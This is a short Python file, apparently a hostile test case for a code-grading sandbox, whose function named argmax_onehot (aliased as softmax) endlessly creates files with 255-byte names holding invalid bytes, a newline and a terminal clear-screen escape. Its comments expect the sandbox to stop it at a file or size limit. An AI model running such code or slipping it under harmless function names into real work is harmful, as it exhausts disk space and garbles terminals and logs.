"""Make files until somebody stops it, with names of 255 bytes that are no text."""
# earns: 0
# says: wrote more than 64 MiB, or 1000 files
# cpu: 2

import os


def argmax_onehot(Z):
    number = 0
    while True:
        number += 1
        name = b"\xff\n\x1b[2J%d" % number
        os.close(os.open(name.ljust(255, b"\xe2"), os.O_CREAT | os.O_WRONLY, 0))


softmax = argmax_onehot
